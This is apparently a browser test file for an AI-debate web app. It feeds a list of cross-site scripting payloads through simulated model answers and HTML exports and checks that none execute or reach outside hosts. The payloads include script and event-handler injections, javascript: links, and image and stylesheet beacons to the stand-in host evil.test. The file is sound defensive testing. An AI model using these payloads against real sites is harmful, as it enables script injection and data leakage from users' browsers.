/** What models write reaches nobody's browser but as text, with the policy of the server and without it. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { held } from './testing/debates.ts'
import { noBrowser, openSite, type Site } from './testing/site.ts'

let site: Site
const folder = mkdtempSync(join(tmpdir(), 'quorum-safety-'))
beforeAll(async () => {
  if (!noBrowser) site = await openSite({ folder })
}, 60_000)
afterAll(async () => {
  await site?.close()
  rmSync(folder, { recursive: true, force: true })
})

const evil = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 1">',
  '<svg onload="window.owned = 1"></svg>',
  '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  '[click](javascript:window.owned=1)',
  '[click](data:text/html,<script>opener.owned=1</script>)',
  '![secret](https://evil.test/pixel.png?q=secret)',
  '<a href="https://evil.test" onclick="window.owned = 1">x</a>',
  '$\\href{javascript:window.owned=1}{x}$ $\\htmlData{a=b}{x}$ $\\includegraphics{https://evil.test/a.png}$',
  '```html\n<script>window.owned = 1</script>\n```',
  '[reset][1]\n\n[1]: javascript:window.owned=1',
  '&lt;script&gt;window.owned = 1&lt;/script&gt;',
  '</script><script>window.owned = 1</script>',
  '<!--<script>\u2028]]></style></title></textarea><svg><script>window.owned = 1</script>',
  '<svg><a xlink:href="javascript:window.owned=1"><animate onbegin="window.owned = 1" attributeName="x" dur="1s"/></a></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="stylesheet" href="https://evil.test/a.css">',
  '<style>@import "https://evil.test/a.css"; body { background: url(https://evil.test/b.png) }</style>',
]

describe.skipIf(noBrowser)(`Text of models${noBrowser ? ` (${noBrowser})` : ''}`, { timeout: 60_000 }, () => {
  it.each([
    ['under the policy', false],
    ['without any policy', true],
  ])('runs, loads and leads nowhere %s', async (_, bypassCSP) => {
    const id = await held(site.rig, {
      motion: { question: evil.join(' '), answer: 'open' },
      panel: evil.map((text, at) => ({ model: `sim/ada+answer=${encodeURIComponent(text)}`, name: `seat${at}` })),
      protocol: { name: 'vote' },
      seed: 1,
    })
    const { page } = await site.visit('/settings', { bypassCSP })
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    const seats = evil.map((_, at) => `view=focus&seat=seat${at}`)
    for (const look of ['view=grid', 'view=timeline', ...seats]) {
      await page.goto(`${site.rig.url}/debates/${id}?${look}`)
      await page.getByRole('tabpanel').getByText('seat1').first().waitFor()
      for (const link of await page.locator('#root a[target]').all())
        expect(await link.getAttribute('href')).toMatch(/^https:\/\/evil\.test/)
      expect(await page.evaluate('window.owned')).toBeUndefined()
      expect(await page.locator('#root iframe, #root script, #root img, #root [onclick], #root [onerror]').count()).toBe(0)
    }
    expect(asked.filter((url) => !url.startsWith(site.rig.url))).toEqual([])
    await page.close()
  })

  it.each([
    ['under its own policy', false],
    ['without any policy', true],
  ])('runs, loads and leads nowhere in an exported file %s', async (_, bypassCSP) => {
    const id = await held(site.rig, {
      motion: { question: evil.join(' '), answer: 'open', context: evil.map((text) => ({ role: 'user', text })) },
      panel: evil.map((text, at) => ({ model: `sim/ada+answer=${encodeURIComponent(text)}`, name: `${at} ${text}`.slice(0, 64) })),
      protocol: { name: 'roundtable', rounds: 1 },
      seed: 1,
    })
    const { text } = await site.rig.ask('GET', `/api/v1/debates/${id}/export?format=html`)
    const file = join(folder, 'debate.html')
    writeFileSync(file, text)
    const { page, broken } = await site.visit('/settings', { bypassCSP })
    await page.locator('.settings-row').first().waitFor()
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.goto(pathToFileURL(file).href)
    const sound = async () => {
      expect(await page.evaluate('window.owned')).toBeUndefined()
      expect(await page.locator('main :is(script, style, iframe, img, svg, math, link, meta, form, a)').count()).toBe(0)
      expect(
        await page.evaluate(`[...document.querySelectorAll('main *')].flatMap((one) => one.getAttributeNames()).join(' ')`),
      ).not.toMatch(/\b(on\w+|href|src|srcdoc)\b/)
    }
    await page.locator('article').first().waitFor()
    await sound()
    for (const text of evil)
      await page
        .locator('article')
        .filter({ hasText: text.replaceAll(/\s+/g, ' ').slice(0, 40) })
        .first()
        .waitFor()
    await page.getByRole('combobox', { name: 'Speed' }).selectOption('8×')
    await page.getByRole('button', { name: 'Replay' }).click()
    await page.locator('article.now').nth(0).waitFor()
    await sound()
    expect(asked).toEqual([pathToFileURL(file).href])
    expect(broken).toEqual([])
    await page.close()
  })

  it('shows to which host a link leads', async () => {
    const text = 'Read [the report](https://example.test/report).'
    const id = await held(site.rig, {
      motion: { question: 'Where is it?', answer: 'open' },
      panel: ['ada', 'bob'].map((name) => ({ model: `sim/${name}+answer=${encodeURIComponent(text)}`, name })),
      protocol: { name: 'vote' },
    })
    const { page } = await site.visit(`/debates/${id}`)
    const link = page.getByRole('link', { name: 'the report (example.test)' }).first()
    expect(await link.getAttribute('rel')).toContain('noopener')
    await page.close()
  })
})
